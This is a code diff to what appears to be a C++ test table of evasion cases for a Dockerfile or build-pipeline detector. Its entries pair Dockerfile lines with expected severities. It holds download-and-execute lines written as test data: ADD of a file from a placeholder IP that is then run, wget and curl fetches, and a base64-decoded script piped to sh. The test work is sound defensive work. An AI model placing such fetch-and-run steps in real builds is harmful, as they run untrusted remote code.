@@ -120,6 +120,20 @@ std::vector<Evasion> evasions() {
   silent.silent = true;
   out.push_back(
       evasion("silent-on-front", {line("RUN curl https://pypi.test", {silent})}, kLow, kLow));
+  // The engine fetches for the step. BuildKit fills in what a variable stands for.
+  auto added = from(111, "", {});
+  added.path = "/p";
+  out.push_back(evasion(
+      "by-add",
+      {line("ADD http://203.0.113.111:8080/p /p", {added}), line("RUN /p", {}, {{"/p", {"/p"}}})},
+      kHigh, kHigh));
+  added.name = added.address = "203.0.113.112";
+  auto argument = evasion("by-add-of-argument",
+                          {line("ARG HOST=203.0.113.112"),
+                           line("ADD http://$HOST:8080/p /p", {added}), line("CMD [\"/p\"]")},
+                          kHigh, kCritical);
+  argument.build.builder = Builder::kClassic;
+  out.push_back(argument);
   // What gets through.
   auto days =
       evasion("days-later", {line("RUN wget http://203.0.113.1/x", {wget(110)})}, kHigh, kNone);
@@ -133,9 +147,6 @@ std::vector<Evasion> evasions() {
       evasion("in-the-file",
               {line("RUN echo aGk= | base64 -d > /p && sh /p", {}, {{"/bin/sh", {"sh", "/p"}}})},
               kNone, kLow));
-  out.push_back(evasion(
-      "by-add", {line("ADD http://203.0.113.111/p /p"), line("RUN /p", {}, {{"/p", {"/p"}}})},
-      kNone, kLow));
   return out;
 }
 
